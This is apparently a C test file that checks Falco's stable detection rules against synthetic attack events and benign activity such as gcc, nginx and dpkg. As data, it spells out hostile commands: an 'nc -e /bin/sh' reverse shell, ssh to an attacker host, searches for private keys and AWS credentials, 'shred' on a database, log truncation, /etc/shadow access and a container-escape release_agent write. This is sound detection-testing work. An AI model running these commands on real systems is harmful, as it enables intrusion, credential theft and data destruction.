/* test_rules_falco.c - Falco's stable rules, unmodified, against hand-built
 * attack events: each fires exactly the expected rule(s) by name (every rule
 * that matches is collected, Falco's "all" matching). A benign set (gcc
 * compiling, nginx serving, dpkg -l, an admin's ssh shell) fires nothing.
 * Sandbox's "Write below etc" runs on top of the stable file. */
#include "test.h"

#include "rules_fixture.h"

typedef struct hits {
    const char *names[32];
    size_t n;
} hits;

static int collect(void *ud, const comb_rule *rule, const comb_event *ev)
{
    (void)ev;
    hits *h = ud;
    if (h->n < 32)
        h->names[h->n++] = comb_rule_name(rule);
    return 0;
}

/* Fired rules must equal `want` (NULL-terminated), in any order. */
static void expect(comb_ruleset *rs, const char *what, const comb_event *ev,
                   const char *const *want)
{
    hits h = { .n = 0 };
    comb_ruleset_eval(rs, ev, collect, &h);
    size_t nwant = 0;
    while (want[nwant])
        nwant++;
    int ok = h.n == nwant;
    for (size_t i = 0; ok && i < nwant; i++) {
        int found = 0;
        for (size_t k = 0; k < h.n; k++)
            found |= !strcmp(h.names[k], want[i]);
        ok &= found;
    }
    test_checks++;
    if (!ok) {
        test_failures++;
        fprintf(stderr, "%s: %s fired %zu rule(s):", test_current, what, h.n);
        for (size_t k = 0; k < h.n; k++)
            fprintf(stderr, " [%s]", h.names[k]);
        fprintf(stderr, "; want %zu:", nwant);
        for (size_t i = 0; i < nwant; i++)
            fprintf(stderr, " [%s]", want[i]);
        fprintf(stderr, "\n");
    }
}

#define WANT(...) ((const char *const[]){ __VA_ARGS__, NULL })
#define NONE ((const char *const[]){ NULL })

static comb_proc anc[4];
static const char *const no_args[] = { NULL };

/* A process `name` (exepath path, argv[1..] args), child of `parent`, in a
 * container (or on the host), no tty, uid 1000; no file descriptor. */
static void spawn(comb_event *ev, const char *type, const char *name, const char *path,
                  const char *const *args, size_t nargs, const char *parent, int in_container)
{
    comb_event_init(ev);
    ev->num = 1;
    ev->ts = 1764343936000000000LL;
    ev->type = type;
    ev->rawres = 0;
    ev->hostname = "node-1";
    comb_proc *p = &ev->proc;
    p->pid = 200;
    p->name = name;
    p->exe = path;
    p->exepath = path;
    p->args = nargs ? args : no_args;
    p->nargs = nargs;
    p->cwd = "/";
    p->tty = 0;
    p->uid = 1000;
    p->gid = 1000;
    p->loginuid = 1000;
    p->user_name = "alice";
    p->user_loginname = "alice";
    p->group_name = "alice";
    p->cap_effective = 0;
    p->is_exe_upper_layer = 0;
    p->is_exe_from_memfd = 0;
    p->start_ts = ev->ts - 1000000;
    for (int i = 0; i < 4; i++)
        comb_proc_init(&anc[i]);
    anc[0].name = parent;
    anc[0].exe = parent;
    anc[0].exepath = parent;
    anc[0].pid = 150;
    anc[1].name = "containerd-shim";
    anc[2].name = "systemd";
    ev->ancestors = anc;
    ev->nancestors = parent ? 3 : 0;
    ev->container.id = in_container ? "c0ffee123456" : "host";
    if (in_container) {
        ev->container.name = "app";
        ev->container.image_repository = "docker.io/library/debian";
        ev->container.privileged = 0;
    }
}

static void with_file(comb_event *ev, const char *path, const char *flags, int64_t fd)
{
    static comb_event_arg args[2];
    args[0] = (comb_event_arg){ "name", path };
    args[1] = (comb_event_arg){ "flags", flags };
    ev->args = args;
    ev->nargs = 2;
    ev->fd.num = fd;
    ev->fd.type = "file";
    ev->fd.name = path;
    ev->fd.nameraw = path;
    ev->rawres = fd;
}

static void with_socket(comb_event *ev, const char *sip, int64_t sport)
{
    ev->fd.num = 3;
    ev->fd.type = "ipv4";
    ev->fd.l4proto = "tcp";
    ev->fd.cip = "172.17.0.5";
    ev->fd.cport = 51000;
    ev->fd.sip = sip;
    ev->fd.sport = sport;
    ev->fd.is_server = 0;
    ev->fd.connected = 1;
}

static void with_arg(comb_event *ev, const char *name, const char *value)
{
    static comb_event_arg one[1];
    one[0] = (comb_event_arg){ name, value };
    ev->args = one;
    ev->nargs = 1;
}

static comb_ruleset *stable;

static void test_attacks(void)
{
    comb_event ev;
    static const char *const sh_args[] = { "-i" };

    spawn(&ev, "execve", "bash", "/usr/bin/bash", sh_args, 1, "runc:[1:CHILD]", 1);
    ev.proc.tty = 34816;
    ev.proc.user_name = "root";
    ev.proc.uid = 0;
    expect(stable, "shell with a tty in a container", &ev, WANT("Terminal shell in container"));

    spawn(&ev, "openat", "evil", "/tmp/evil", NULL, 0, "bash", 0);
    with_file(&ev, "/etc/shadow", "O_RDONLY", 3);
    expect(stable, "/etc/shadow read by an unknown program", &ev,
           WANT("Read sensitive file untrusted"));

    static const char *const nc_args[] = { "-e", "/bin/sh", "10.0.0.1", "4444" };
    spawn(&ev, "execve", "nc", "/usr/bin/nc", nc_args, 4, "bash", 1);
    expect(stable, "nc -e in a container", &ev, WANT("Netcat Remote Code Execution in Container"));

    spawn(&ev, "socket", "sniff", "/usr/local/bin/sniff", NULL, 0, "bash", 1);
    with_arg(&ev, "domain", "AF_PACKET");
    ev.rawres = 3;
    expect(stable, "AF_PACKET socket in a container", &ev,
           WANT("Packet socket created in container"));

    spawn(&ev, "ptrace", "inject", "/tmp/inject", NULL, 0, "bash", 0);
    with_arg(&ev, "request", "PTRACE_ATTACH");
    expect(stable, "ptrace attach", &ev, WANT("PTRACE attached to process"));

    spawn(&ev, "ptrace", "packed", "/tmp/packed", NULL, 0, "bash", 0);
    with_arg(&ev, "request", "PTRACE_TRACEME");
    expect(stable, "ptrace traceme", &ev, WANT("PTRACE anti-debug attempt"));

    spawn(&ev, "execve", "3", "memfd:payload", NULL, 0, "python3", 0);
    ev.proc.is_exe_from_memfd = 1;
    expect(stable, "exec from a memfd", &ev, WANT("Fileless execution via memfd_create"));

    spawn(&ev, "execve", "kworker", "/tmp/kworker", NULL, 0, "sh", 1);
    ev.proc.is_exe_upper_layer = 1;
    expect(stable, "binary dropped in the container", &ev,
           WANT("Drop and execute new binary in container"));

    spawn(&ev, "execve", "x", "/dev/shm/x", NULL, 0, "sh", 0);
    expect(stable, "exec from /dev/shm", &ev, WANT("Execution from /dev/shm"));

    spawn(&ev, "openat", "sh", "/bin/sh", NULL, 0, "bash", 0);
    with_file(&ev, "/var/log/auth.log", "O_WRONLY|O_TRUNC", 4);
    expect(stable, "log truncated", &ev, WANT("Clear Log Activities"));

    spawn(&ev, "symlinkat", "ln", "/usr/bin/ln", NULL, 0, "bash", 0);
    static comb_event_arg sl[2] = { { "target", "/etc/shadow" }, { "linkpath", "/tmp/s" } };
    ev.args = sl;
    ev.nargs = 2;
    expect(stable, "symlink to /etc/shadow", &ev, WANT("Create Symlink Over Sensitive Files"));

    spawn(&ev, "linkat", "ln", "/usr/bin/ln", NULL, 0, "bash", 0);
    static comb_event_arg hl[2] = { { "oldpath", "/etc/shadow" }, { "newpath", "/tmp/h" } };
    ev.args = hl;
    ev.nargs = 2;
    expect(stable, "hardlink to /etc/shadow", &ev, WANT("Create Hardlink Over Sensitive Files"));

    spawn(&ev, "finit_module", "insmod", "/usr/sbin/insmod", NULL, 0, "bash", 1);
    ev.proc.cap_effective = 1LL << 16; /* CAP_SYS_MODULE */
    expect(stable, "kernel module from a container", &ev,
           WANT("Linux Kernel Module Injection Detected"));

    spawn(&ev, "dup2", "bash", "/bin/bash", NULL, 0, "python3", 1);
    with_socket(&ev, "10.1.2.3", 4444);
    ev.rawres = 1;
    expect(stable, "stdout to a socket", &ev,
           WANT("Redirect STDOUT/STDIN to Network Connection in Container"));

    spawn(&ev, "connect", "curl", "/usr/bin/curl", NULL, 0, "sh", 1);
    with_socket(&ev, "10.96.0.1", 443);
    ev.fd.sip_name = "kubernetes.default.svc.cluster.local";
    expect(stable, "API server contacted from a container", &ev,
           WANT("Contact K8S API Server From Container"));

    static const char *const ssh_args[] = { "-p", "443", "attacker@203.0.113.9" };
    spawn(&ev, "connect", "ssh", "/usr/bin/ssh", ssh_args, 3, "bash", 0);
    with_socket(&ev, "203.0.113.9", 443);
    expect(stable, "ssh to port 443", &ev, WANT("Disallowed SSH Connection Non Standard Port"));

    static const char *const grep_args[] = { "-r", "BEGIN RSA PRIVATE", "/home" };
    spawn(&ev, "execve", "grep", "/usr/bin/grep", grep_args, 3, "bash", 0);
    expect(stable, "grep for private keys", &ev, WANT("Search Private Keys or Passwords"));

    static const char *const find_args[] = { "/", "-name", ".aws/credentials" };
    spawn(&ev, "execve", "find", "/usr/bin/find", find_args, 3, "bash", 0);
    expect(stable, "find AWS credentials", &ev, WANT("Find AWS Credentials"));

    static const char *const shred_args[] = { "-u", "/data/db" };
    spawn(&ev, "execve", "shred", "/usr/bin/shred", shred_args, 2, "bash", 0);
    expect(stable, "shred", &ev, WANT("Remove Bulk Data from Disk"));

    spawn(&ev, "openat", "sh", "/bin/sh", NULL, 0, "bash", 1);
    with_file(&ev, "/sys/fs/cgroup/rdma/release_agent", "O_WRONLY", 5);
    ev.proc.uid = 0;
    ev.proc.cap_effective = 1LL << 21; /* CAP_SYS_ADMIN */
    expect(stable, "release_agent write", &ev, WANT("Detect release_agent File Container Escapes"));

    static const char *const dbg_args[] = { "/dev/sda1" };
    spawn(&ev, "execve", "debugfs", "/sbin/debugfs", dbg_args, 1, "bash", 1);
    ev.container.privileged = 1;
    expect(stable, "debugfs in a privileged container", &ev,
           WANT("Debugfs Launched in Privileged Container"));

    static const char *const c_args[] = { "-c", "id" };
    spawn(&ev, "execve", "sh", "/bin/sh", c_args, 2, "nginx", 1);
    expect(stable, "nginx spawning a shell", &ev, WANT("Run shell untrusted"));

    spawn(&ev, "execve", "ls", "/bin/ls", NULL, 0, "bash", 0);
    ev.proc.user_name = "www-data";
    anc[1].name = "sshd";
    expect(stable, "www-data logged in over ssh", &ev, WANT("System user interactive"));

    spawn(&ev, "openat", "php-fpm", "/usr/sbin/php-fpm", NULL, 0, "php-fpm", 1);
    with_file(&ev, "/etc/passwd", "O_RDONLY", 7);
    ev.fd.nameraw = "/var/www/html/../../../etc/passwd";
    expect(stable, "directory traversal", &ev, WANT("Directory traversal monitored file read"));

    spawn(&ev, "openat", "nginx", "/usr/sbin/nginx", NULL, 0, "nginx", 1);
    with_file(&ev, "/etc/shadow", "O_RDONLY", 8);
    ev.proc.start_ts = ev.ts - 3600000000000LL; /* running for an hour */
    expect(stable, "nginx reading /etc/shadow late", &ev,
           WANT("Read sensitive file trusted after startup", "Read sensitive file untrusted"));
}

static void test_benign(void)
{
    comb_event ev;
    static const char *const gcc_args[] = { "-O2", "-c", "main.c", "-o", "main.o" };
    spawn(&ev, "execve", "gcc", "/usr/bin/gcc", gcc_args, 5, "make", 0);
    expect(stable, "gcc started", &ev, NONE);
    spawn(&ev, "openat", "cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", NULL, 0, "gcc", 0);
    with_file(&ev, "/usr/include/stdio.h", "O_RDONLY|O_NOCTTY", 3);
    expect(stable, "cc1 reading a header", &ev, NONE);
    spawn(&ev, "openat", "as", "/usr/bin/as", NULL, 0, "gcc", 0);
    with_file(&ev, "/tmp/main.o", "O_WRONLY|O_CREAT|O_TRUNC", 4);
    expect(stable, "as writing an object", &ev, NONE);

    spawn(&ev, "accept4", "nginx", "/usr/sbin/nginx", NULL, 0, "nginx", 1);
    with_socket(&ev, "172.17.0.5", 80);
    ev.fd.is_server = 1;
    expect(stable, "nginx accepting", &ev, NONE);
    spawn(&ev, "openat", "nginx", "/usr/sbin/nginx", NULL, 0, "nginx", 1);
    with_file(&ev, "/usr/share/nginx/html/index.html", "O_RDONLY|O_NONBLOCK", 9);
    expect(stable, "nginx serving a page", &ev, NONE);
    spawn(&ev, "openat", "nginx", "/usr/sbin/nginx", NULL, 0, "nginx", 1);
    with_file(&ev, "/var/log/nginx/access.log", "O_WRONLY|O_APPEND|O_CREAT", 10);
    expect(stable, "nginx logging", &ev, NONE);

    static const char *const dpkg_args[] = { "-l" };
    spawn(&ev, "execve", "dpkg", "/usr/bin/dpkg", dpkg_args, 1, "bash", 1);
    expect(stable, "dpkg -l", &ev, NONE);
    spawn(&ev, "openat", "dpkg", "/usr/bin/dpkg", NULL, 0, "bash", 1);
    with_file(&ev, "/var/lib/dpkg/status", "O_RDONLY", 3);
    expect(stable, "dpkg reading its database", &ev, NONE);

    /* An admin's interactive shell on the host: not a container, not a system user. */
    static const char *const login_args[] = { "-l" };
    spawn(&ev, "execve", "bash", "/bin/bash", login_args, 1, "sshd", 0);
    ev.proc.tty = 34817;
    expect(stable, "ssh login shell on the host", &ev, NONE);
    /* passwd may read /etc/shadow. */
    spawn(&ev, "openat", "passwd", "/usr/bin/passwd", NULL, 0, "bash", 0);
    with_file(&ev, "/etc/shadow", "O_RDONLY", 3);
    expect(stable, "passwd reading /etc/shadow", &ev, NONE);
    /* A failed connect to localhost by ssh is not outbound. */
    spawn(&ev, "connect", "ssh", "/usr/bin/ssh", NULL, 0, "bash", 0);
    with_socket(&ev, "127.0.0.1", 443);
    expect(stable, "ssh to localhost", &ev, NONE);
}

static void test_sandbox_write_below_etc(void)
{
    comb_ruleset *rs;
    comb_err err;
    CHECK(comb_ruleset_new(&rs, &err) == COMB_OK);
    CHECK(comb_rules_load_file(rs, test_shared("data/falco-rules/falco_rules.yaml"), &err) == 0);
    CHECK(comb_rules_load_file(rs, test_shared("data/falco-rules/falco-sandbox_rules.yaml"),
                               &err) == 0);
    CHECK(comb_ruleset_compile(rs, &err) == COMB_OK);
    comb_event ev;
    spawn(&ev, "openat", "evil", "/tmp/evil", NULL, 0, "bash", 0);
    with_file(&ev, "/etc/ld.so.preload", "O_WRONLY|O_CREAT", 3);
    hits h = { .n = 0 };
    comb_ruleset_eval(rs, &ev, collect, &h);
    int found = 0;
    for (size_t i = 0; i < h.n; i++)
        found |= !strcmp(h.names[i], "Write below etc");
    CHECK(found);
    expect(stable, "write below /etc (stable only)", &ev, NONE);
    spawn(&ev, "openat", "apt-get", "/usr/bin/apt-get", NULL, 0, "bash", 0);
    with_file(&ev, "/etc/apt/sources.list", "O_WRONLY|O_CREAT", 3);
    h.n = 0;
    comb_ruleset_eval(rs, &ev, collect, &h);
    found = 0;
    for (size_t i = 0; i < h.n; i++)
        found |= !strcmp(h.names[i], "Write below etc");
    CHECK(!found);
    comb_ruleset_free(rs);
}

static void test_alert_json(void)
{
    comb_event ev;
    static const char *const nc_args[] = { "-e", "/bin/sh", "10.0.0.1", "4444" };
    spawn(&ev, "execve", "nc", "/usr/bin/nc", nc_args, 4, "bash", 1);
    const comb_rule *r = comb_ruleset_find_rule(stable, "Netcat Remote Code Execution in Container");
    CHECK(r != NULL);
    if (!r)
        return;
    char *json = comb_alert_format_json(stable, r, &ev, NULL);
    CHECK(json != NULL);
    if (json) {
        CHECK(strstr(json, "\"rule\":\"Netcat Remote Code Execution in Container\""));
        CHECK(strstr(json, "\"priority\":\"Warning\""));
        CHECK(strstr(json, "\"time\":\"2025-11-28T15:32:16.000000000Z\""));
        CHECK(strstr(json, "\"proc.cmdline\":\"nc -e /bin/sh 10.0.0.1 4444\""));
        CHECK(strstr(json, "\"user.uid\":1000"));
        CHECK(strstr(json, "\"proc.tty\":0"));
        CHECK(strstr(json, "\"tags\":[\"maturity_stable\",\"container\""));
        CHECK(strstr(json, "\"output\":\"15:32:16.000000000: Warning Netcat runs inside container"
                           " that allows remote code execution | evt_type=execve user=alice"));
    }
    free(json);
}

int main(void)
{
    comb_err err;
    if (comb_ruleset_new(&stable, &err) ||
        comb_rules_load_file(stable, test_shared("data/falco-rules/falco_rules.yaml"), &err) ||
        comb_ruleset_compile(stable, &err)) {
        fprintf(stderr, "setup: %s\n", err.msg);
        return 1;
    }
    RUN(test_attacks);
    RUN(test_benign);
    RUN(test_sandbox_write_below_etc);
    RUN(test_alert_json);
    comb_ruleset_free(stable);
    return test_summary();
}
